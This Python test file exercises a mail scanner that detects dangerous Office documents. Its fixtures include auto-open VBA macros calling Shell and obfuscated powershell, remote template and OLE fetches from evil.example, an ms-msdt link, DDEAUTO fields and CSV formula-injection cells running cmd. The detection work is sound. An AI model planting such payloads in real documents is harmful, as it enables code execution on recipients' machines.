"""What starts, fetches or asks for data when a document is opened is seen; what offices mail every day is not."""

import pytest

from mailflows.examine.office.macros import judge
from mailflows.examine.office.vba import Project, unpacked
from tests.exhibits import macro_document, vba_project, zipped_as
from tests.exhibits import office as made
from tests.exhibits.office_asked import CODE, file, ids


def weight_of_code(source: str, names: str = "", compiled: int = 0) -> int:
    saws = list(judge(Project(source, names, compiled, ""), ""))
    return max((6 if saw.weight is None else saw.weight for saw in saws), default=0)


# VBA


@pytest.mark.parametrize(
    ("code", "weight"),
    [
        ('Sub AutoOpen()\nShell "calc"\nEnd Sub', 6),
        ('Sub Document_Open()\nSet x = CreateObject("WScr" & "ipt.Shell")\nEnd Sub', 6),
        ('Sub Workbook_Open()\nSet x = CreateObject(StrReverse("llehS.tpircSW"))\nEnd Sub', 6),
        ('Sub Document_Open()\nx = Chr(112) & Chr(111) & "wershell -enc"\nEnd Sub', 6),
        ('Private Sub Img_Painted()\nurldownloadtofile 0, "x"\nEnd Sub', 6),
        ('Sub Report()\nShell "notepad"\nEnd Sub', 3),
        ("Sub Workbook_Open()\nKill Path\nEnd Sub", 3),
        ('Sub Total()\nSet d = CreateObject("Scripting.Dictionary")\nEnd Sub', 1),
        ("Sub Workbook_Open()\nCall Init\nSheets(1).Activate\nEnd Sub", 1),
        ("Sub Add()\nRange(1).Value = 2\nEnd Sub", 1),
        ('Attribute VB_Name = "ThisDocument"\n', 0),
    ],
)  # fmt: skip
def test_f03_code_is_weighed_by_what_starts_it_and_what_it_reaches_for(code: str, weight: int) -> None:
    assert weight_of_code(code) == weight


def test_f03_code_of_which_only_the_compiled_form_is_left() -> None:
    empty = 'Attribute VB_Name = "ThisDocument"\n'
    assert weight_of_code(empty, names="\x00autoopen\x00urldownloadtofilea\x00shell\x00", compiled=4000) == 5
    assert weight_of_code(empty, names="\x00thisdocument\x00word\x00", compiled=4000) == 0


def test_f03_a_project_is_found_wherever_it_hides() -> None:
    assert ids(file("plan.docm", macro_document())) == {"F03": 6}
    assert ids(file("plan.doc", vba_project(CODE))) == {"F03": 6}
    assert ids(file("plan.docx", zipped_as({**made.TYPES, "word\\Odd.xml": vba_project(CODE)}))) == {"F03": 6}
    assert ids(file("plan.mht", made.active_mime(vba_project(CODE)))) == {"F03": 6, "F08": 3}
    assert ids(file("plan.doc", made.active_mime(vba_project(CODE)))) == {"F03": 6, "F08": 5}


def test_f03_a_text_about_macros_is_no_macro() -> None:
    assert ids(file("letter.doc", b"Please open and call Shell, powershell, AutoOpen")) == {}


def test_compressed_source_is_read_within_bounds() -> None:
    assert unpacked(b"\x01\x19\xb0\x00abcdefgh\x00ijklmnop\x00qrstuv.", 100)[:8] == b"abcdefgh"
    repeated = b"\x01" + (b"\x03\xb0" + b"\x02A" + b"\xff\x0f") * 1000
    assert len(unpacked(repeated, 50_000)) == 50_000
    with pytest.raises(ValueError, match="container"):
        unpacked(b"PK", 10)


def test_f03_scripts_of_open_documents() -> None:
    module = b"<script:module>Sub Main\nShell(&quot;/bin/sh&quot;)\nEnd Sub</script:module>"
    begins = b'<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:A.B.Main"/>'
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"}
    assert ids(file("a.odt", zipped_as(parts))) == {}
    assert ids(file("a.odt", zipped_as({**parts, "Basic/Standard/A.xml": module}))) == {"F03": 3}
    loud = zipped_as({**parts, "content.xml": begins, "Basic/Standard/A.xml": module})
    assert ids(file("a.odt", loud)) == {"F03": 6}
    python = zipped_as({**parts, "content.xml": begins, "Scripts/python/a.py": b"import os"})
    assert ids(file("a.odt", python))["F03"] == 6


# Excel 4


def test_f04_macro_sheets_in_every_container() -> None:
    auto = '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
    macro = b"<xm:macrosheet><c><f>EXEC(&quot;calc&quot;)</f></c></xm:macrosheet>"
    assert ids(file("a.xlsm", made.workbook(auto, xl_S_macrosheets_S_sheet1__xml=macro))) == {"F04": 6}
    assert ids(file("a.xlsm", made.workbook(xl_S_macrosheets_S_sheet1__xml=macro))) == {"F04": 6}
    assert ids(file("a.xlsm", made.workbook(xl_S_macrosheets_S_sheet1__xml=b"<xm:macrosheet/>"))) == {"F04": 3}
    led = b'<Relationship Type="http://x/office/2006/relationships/xlMacrosheet" Target="worksheets/s.xml"/>'
    renamed = made.workbook(auto, xl_S_worksheets_S_s__xml=macro, xl_S__rels_S_workbook__xml__rels=led)
    assert ids(file("a.xlsm", renamed)) == {"F04": 6}
    assert ids(file("a.xlsb", made.binary_workbook())) == {"F04": 6}
    assert ids(file("a.xls", made.old_workbook(made.sheet("M", 1, 2), made.starts_alone()))) == {"F04": 6}
    assert ids(file("a.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n')) == {"F04": 6}


def test_f04_a_hidden_sheet_is_no_macro() -> None:
    hidden = '<sheet name="lists" state="veryHidden"/>'
    assert ids(file("a.xlsx", made.workbook('<definedName name="rate">A!$A$1</definedName>', hidden))) == {}
    assert ids(file("a.xls", made.old_workbook(made.sheet("lists", 0, 2)))) == {}
    assert ids(file("a.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K5\r\nE\r\n")) == {}


# What is fetched


@pytest.mark.parametrize(
    ("kind", "target", "weight"),
    [
        ("attachedTemplate", "http://evil.example/a.dotm", 6),
        ("attachedTemplate", "https://evil.example/a", 6),
        ("attachedTemplate", "file:///\\\\203.0.113.9\\x\\a.dotm", 6),
        ("attachedTemplate", "file:///\\\\server\\templates\\a.dotx", 3),
        ("attachedTemplate", "file:///C:\\Users\\layla\\Templates\\a.dotx", 0),
        ("oleObject", "http://evil.example/x.html!", 6),
        ("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a", 6),
        ("frame", "https://evil.example/", 5),
        ("image", "https://pixel.example/1.png", 1),
        ("image", "file:///\\\\evil.example\\a\\b.png", 1),
        ("hyperlink", "https://www.paper.example/", 0),
        ("hyperlink", "mailto:layla@paper.example", 0),
        ("hyperlink", "https://موقع.السعودية/", 0),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", 6),
        ("externalLinkPath", "file:///C:\\Books\\2025.xlsx", 0),
        ("video", "https://www.youtube.com/embed/x", 0),
    ],
)
def test_f05_what_a_document_fetches_and_what_it_merely_links(kind: str, target: str, weight: int) -> None:
    assert ids(file("a.docx", made.reaching(kind, target))) == ({"F05": weight} if weight else {})


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_f05_in_every_encoding_office_reads(encoding: str) -> None:
    assert ids(file("a.docx", made.reaching("attachedTemplate", "http://e.example/a", encoding))) == {"F05": 6}


def test_f05_escapes_and_other_places() -> None:
    hidden = made.reaching("attachedTemplate", "&#104;ttp://e.example/a")
    assert ids(file("a.docx", hidden)) == {"F05": 6}
    assert ids(
        file("a.docx", made.relationships('<Relationship Id="a>b" Type="x/frame" Target="http://e.example/a"/>'))
    )
    assert ids(
        file("a.docx", made.relationships(f'<Relationship{" " * 50_000}Target {" " * 99}= "http://e.example/a"/>'))
    )
    assert ids(file("a.docx", made.relationships("Relationship", "cp037"))) == {"F05": 3}
    flat = b'<?mso-application progid="Word.Document"?><w:attachedTemplate w:val="http://e.example/a"/>'
    assert ids(file("a.xml", flat)) == {"F05": 6}
    assert ids(file("a.rtf", made.rich(b"{\\*\\template http://e.example/a.dot}"))) == {"F05": 6}
    assert ids(file("a.rtf", made.rich(b"{\\*\\template C:\\\\Templates\\\\a.dot}"))) == {}
    framed = b'<draw:floating-frame xlink:href="https://e.example/"/>'
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": framed}
    assert ids(file("a.odt", zipped_as(odt))) == {"F05": 5}
    included = made.field("INCLUDE", 'TEXT "https://e.example/a" ')
    assert ids(file("a.docx", made.document(included))) == {"F05": 5}


# Data exchange


def test_f06_fields_however_they_are_cut() -> None:
    cut = made.field("D", "DEA", "UTO", ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
    assert ids(file("a.docx", made.document(cut))) == {"F06": 6}
    quoted = "<w:instrText><![CDATA[DDEAUTO cmd /k]]></w:instrText>"
    assert ids(file("a.docx", made.document(quoted))) == {"F06": 6}
    noted = '<w:instrText w:x="a>b">D<!-- instrText -->DE cmd</w:instrText>'
    assert ids(file("a.docx", made.document(noted))) == {"F06": 6}
    simple = '<w:fldSimple w:instr="DDE excel.exe x"/>'
    assert ids(file("a.docx", made.document(simple))) == {"F06": 6}
    letters = " ".join(str(ord(sign)) for sign in "DDEAUTO cmd /k")
    begin, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
    nested = f"{begin}{begin}<w:instrText> QUOTE {letters} </w:instrText>{end}{end}"
    assert ids(file("a.docx", made.document(nested))) == {"F06": 6}
    flat = f'<?mso-application progid="Word.Document"?><w:wordDocument>{cut}</w:wordDocument>'.encode()
    assert ids(file("a.xml", flat)) == {"F06": 6}
    assert ids(file("a.rtf", made.rich(b"{\\field{\\*\\fldinst {DDE}{AUTO cmd /k calc}}}"))) == {"F06": 6}
    assert ids(file("a.doc", made.old_document('x\x13DDEAUTO cmd "/c calc"\x14y\x15'))) == {"F06": 6}


def test_f06_ordinary_fields_are_left_alone() -> None:
    for code in ("PAGE", "TOC \\o", 'HYPERLINK "https://www.paper.example/"', "DATE", "ADDIN EN.CITE", "DDEFOO"):
        assert ids(file("a.docx", made.document(made.field(code)))) == {}
    assert ids(file("a.docx", made.document("<w:p><w:t>DDEAUTO is a field</w:t></w:p>"))) == {}


def test_f06_links_of_workbooks() -> None:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert ids(file("a.xlsx", made.workbook(xl_S_externalLinks_S_externalLink1__xml=link))) == {"F06": 6}
    terminal = b'<externalLink><ddeLink ddeService="BLP" ddeTopic="S"/></externalLink>'
    assert ids(file("a.xlsx", made.workbook(xl_S_externalLinks_S_externalLink1__xml=terminal))) == {"F06": 3}
    assert ids(file("a.xlsb", made.dde_binary_workbook("cmd", "/c calc"))) == {"F06": 6}
    supbook = (0x1AE, b"\x01\x00\x0b\x00\x00cmd\x03/c calc")
    assert ids(file("a.xls", made.old_workbook(made.sheet("a"), supbook))) == {"F06": 6}


@pytest.mark.parametrize(
    ("name", "text", "weight"),
    [
        ("a.csv", "name\n=cmd|'/C calc'!A0", 6),
        ("a.csv", "a,\"@SUM(1+1)*cmd|'/C calc'!A0\"", 6),
        ("a.csv", "a;-2+3+cmd|'/C calc'!A0", 6),
        ("a.csv", "+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", 6),
        ("a.csv", '=WEBSERVICE("https://e.example/?"&A1)', 3),
        ("a.slk", "ID;P\nC;X1;Y1;K0;Ecmd|'/c calc'!A0\nE", 6),
        ("a.iqy", "WEB\r\n1\r\nhttp://e.example/x", 5),
        ("a.dqy", "XLODBC\r\n1\r\nDSN=x", 3),
        ("a.csv", "الاسم,الهاتف\nليلى,+٩٦١ ٣ ١٢٣٤٥٦\n@ليلى,-5,=SUM(A1:A2)", 0),
        ("a.csv", "@ali,-5,a|b!c\n=A1,x|y'z!q", 0),
        ("a.csv", "-5|yes|Hello there!", 0),
        ("a.txt", "in a cell =cmd|'/C calc'!A0 is dangerous", 0),
    ],
)
def test_f06_cells_of_tables_in_text(name: str, text: str, weight: int) -> None:
    assert ids(file(name, text.encode())) == ({"F06": weight} if weight else {})
